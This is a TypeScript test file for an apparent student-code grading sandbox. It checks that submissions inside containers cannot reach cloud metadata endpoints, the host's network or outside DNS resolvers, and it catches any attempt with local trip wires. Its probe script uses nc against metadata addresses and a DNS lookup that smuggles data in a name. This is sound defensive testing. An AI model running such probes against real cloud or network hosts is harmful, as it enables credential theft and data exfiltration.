import { readFile, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { execa } from 'execa'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { assignmentSchema } from '../model/assignment.ts'
import { skipBecause } from '../test-skip.ts'
import { removeContainer, startContainer } from './container.ts'
import type { Engine } from './engine.ts'
import { createNetwork } from './network.ts'
import { prepareObserverTests } from './observer/test-observers.ts'
import { createOptions, hostConfigOf } from './profile.ts'
import { startTestEngine, type TestEngine } from './test-engine.ts'

/**
 * What a cloud's metadata service would be to a server of a student. An engine in a network namespace of its own owns these
 * addresses here, so that nothing ever leaves this machine.
 */

const root = process.getuid?.() === 0
const tests = prepareObserverTests()
const { boot: limits } = assignmentSchema.shape.limits.parse(undefined)
/** Metadata, Azure's wire server, a neighbour on the network of the machine, a resolver outside, and the dead one of ours. */
const owned = ['169.254.169.254', '168.63.129.16', '192.168.77.5', '203.0.113.53', '192.0.2.1']
let own: TestEngine | undefined
let engine: Engine
let tripped: () => Promise<string[]>
const ends: (() => Promise<unknown>)[] = []

beforeAll(async () => {
  if (!root) return
  own = await startTestEngine({ unroutable: true, isolates: true })
  // Testcontainers looks for its engine here when it is first asked.
  vi.stubEnv('DOCKER_HOST', own.endpoint)
  engine = { ...tests.engine, endpoint: own.endpoint, docker: own.docker }
  const image = await tests.engine.docker.getImage(tests.imageId).get()
  const loading = await own.docker.loadImage(image)
  await new Promise((resolve) => loading.resume().once('end', resolve))
  tripped = await setTripWires(dirname(own.endpoint.replace('unix://', '')))
}, 120_000)
afterAll(async () => {
  vi.unstubAllEnvs()
  for (const end of ends.reverse()) await end()
  await own?.[Symbol.asyncDispose]()
})

const script = `for address in ${owned.join(' ')}; do
  nc -w 1 $address 80 </dev/null >/dev/null 2>&1 && echo reached $address
  timeout 2 nslookup secret-in-a-name.example.com $address >/dev/null 2>&1
done
timeout 4 nslookup secret-in-a-name.example.com >/dev/null 2>&1
echo done`

test('H83: metadata, the network of the machine and resolvers outside are out of reach of a submission', async (context) => {
  if (!root) skipBecause(context, 'an engine in a namespace of its own needs root')
  const network = await createNetwork(engine, 'cgrade-ways-out', tests.labels)
  expect(network.gateway).toMatchObject({ closed: false, why: expect.stringContaining('not an interface') })
  const before = await tripped()
  const order = { imageId: tests.imageId, networkName: network.name, env: {}, command: ['sh', '-c', script], limits }
  const start = await startContainer(engine, { ...order, labels: tests.labels })
  if (!start.started) throw new Error(start.engineMessage)
  await start.container.log.ended
  const said = start.container.log.lines.map(({ text }) => text).join('\n')
  await start.container.remove()
  await network.remove()
  expect(said).toContain('done')
  expect(said).not.toContain('reached')
  expect(await tripped()).toStrictEqual(before)
})

test('H83 control: on a network with a way out, the same program reaches them all', async (context) => {
  if (!root) skipBecause(context, 'an engine in a namespace of its own needs root')
  const { docker } = engine
  const network = await docker.createNetwork({ Name: 'open', Driver: 'bridge', Labels: tests.labels })
  const container = await docker.createContainer({
    ...createOptions,
    Image: tests.imageId,
    Cmd: ['sh', '-c', script],
    Labels: tests.labels,
    HostConfig: { ...hostConfigOf(limits), NetworkMode: 'open' },
  })
  await container.start()
  await container.wait()
  await removeContainer(docker, container.id)
  await network.remove()
  const seen = await tripped()
  for (const address of owned) expect(seen).toContain(`tcp ${address}`)
  expect(seen.some((line) => line.startsWith('udp') && line.includes('secret-in-a-name'))).toBe(true)
})

/** Beyond the engine's namespace, on a wire of its own, as a router would be. Answers what has come to it so far. */
async function setTripWires(folder: string): Promise<() => Promise<string[]>> {
  const [program, seen] = [join(folder, 'wires.mjs'), join(folder, 'tripped')]
  await writeFile(seen, '')
  await writeFile(program, tripWires(seen))
  const wires = execa('unshare', ['--net', process.execPath, program], { reject: false, stdin: 'ignore' })
  ends.push(async () => {
    wires.kill('SIGKILL')
    await wires
  })
  const read = async () => (await readFile(seen, 'utf8')).split('\n').filter((line) => line !== '')
  for (let tries = 0; tries < 100 && (await read()).length === 0; tries += 1) await sleep(100)

  const here = ['-t', (await readFile(join(folder, 'pid'), 'utf8')).trim(), '-n', 'ip']
  const there = ['-t', String(wires.pid), '-n', 'ip']
  const run = (where: string[], words: string) => execa('nsenter', [...where, ...words.split(' ')])
  await run(here, `link add wire type veth peer name wire netns ${wires.pid}`)
  await run(here, 'addr add 198.18.0.1/30 dev wire')
  await run(there, 'addr add 198.18.0.2/30 dev wire')
  for (const address of owned) await run(there, `addr add ${address}/32 dev wire`)
  await run(here, 'link set wire up')
  await run(there, 'link set wire up')
  await run(here, 'route add default via 198.18.0.2')
  return read
}

function tripWires(seen: string): string {
  return `import { createServer } from 'node:net'
import { createSocket } from 'node:dgram'
import { appendFileSync } from 'node:fs'
const tell = (line) => appendFileSync(${JSON.stringify(seen)}, line + '\\n')
createServer((socket) => { tell('tcp ' + socket.localAddress); socket.destroy() }).listen(80, '0.0.0.0')
createSocket('udp4')
  .on('message', (bytes) => tell('udp ' + bytes.toString('latin1').replace(/[^a-z-]+/g, '.')))
  .bind(53, '0.0.0.0', () => tell('ready'))
`
}
